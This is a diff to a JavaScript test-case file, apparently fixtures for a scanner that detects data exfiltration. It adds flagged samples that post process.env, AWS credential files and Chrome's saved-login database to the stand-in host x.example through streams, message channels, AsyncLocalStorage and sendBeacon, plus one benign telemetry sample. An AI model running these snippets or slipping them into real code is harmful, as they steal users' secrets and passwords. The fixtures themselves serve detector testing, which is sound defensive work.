@@ -320,6 +320,26 @@ export default defineCases({
       name: 'an archive that is made in memory',
       code: "const Zip = require('adm-zip'), os = require('os');\nconst zip = new Zip(); zip.addLocalFolder(os.homedir() + '/.aws');\nfetch('https://x.example', { method: 'POST', body: zip.toBuffer() })",
     },
+    {
+      name: 'through streams of the web',
+      code: "const from = new ReadableStream({ start(c) { for (const [k, v] of Object.entries(process.env)) c.enqueue(k + '=' + v); c.close() } });\nconst to = new WritableStream({ async write(chunk) { await fetch('https://x.example', { method: 'POST', body: chunk }) } });\nfrom.pipeTo(to)",
+    },
+    {
+      name: 'through a channel of messages',
+      code: "const { MessageChannel } = require('node:worker_threads');\nconst { port1, port2 } = new MessageChannel();\nport2.on('message', (m) => fetch('https://x.example', { method: 'POST', body: JSON.stringify(m) }));\nport1.postMessage({ ...process.env })",
+    },
+    {
+      name: 'kept for a function that has a name',
+      code: "const { AsyncLocalStorage } = require('node:async_hooks');\nconst kept = new AsyncLocalStorage();\nasync function flush() { await fetch('https://x.example', { method: 'POST', body: JSON.stringify(kept.getStore()) }) }\nkept.run({ all: process.env }, flush)",
+    },
+    {
+      name: 'the database of a browser, from a copy',
+      code: "const { DatabaseSync } = require('node:sqlite'), fs = require('fs'), os = require('os');\nconst copy = os.tmpdir() + '/ld';\nfs.copyFileSync(os.homedir() + '/.config/google-chrome/Default/Login Data', copy);\nconst db = new DatabaseSync(copy);\nfetch('https://x.example', { method: 'POST', body: JSON.stringify(db.prepare('select * from logins').all()) })",
+    },
+    {
+      name: 'line by line, by a beacon',
+      code: "const { open } = require('node:fs/promises'), os = require('os');\nopen(os.homedir() + '/.aws/credentials').then(async (file) => { for await (const line of file.readLines()) navigator.sendBeacon('https://x.example', line) })",
+    },
   ],
   ok: [
     {
@@ -526,6 +546,10 @@ export default defineCases({
     {
       name: 'an archive of a project without what is its own',
       code: "const archiver = require('archiver'), fs = require('fs');\nexports.pack = (dir, file) => { const archive = archiver('zip'); archive.pipe(fs.createWriteStream(file)); archive.glob('**/*', { cwd: dir, dot: true, ignore: ['.env', '.npmrc', '.ssh/**'] }); return archive.finalize() };\nexports.send = (file) => fetch('https://api.x.example', { method: 'POST', body: fs.readFileSync(file) })",
+    },
+    {
+      name: 'streams and channels of other things',
+      code: "const { MessageChannel } = require('node:worker_threads');\nconst { port1, port2 } = new MessageChannel();\nport2.on('message', (m) => fetch('https://stats.example', { method: 'POST', body: JSON.stringify(m) }));\nexports.tell = (what) => port1.postMessage({ what });\nexports.lines = (lines) => new ReadableStream({ start(c) { for (const line of lines) c.enqueue(line); c.close() } }).pipeTo(new WritableStream({ async write(chunk) { await fetch('https://stats.example', { method: 'POST', body: chunk }) } }));\nexports.region = () => process.env.REGION",
     },
   ],
 });
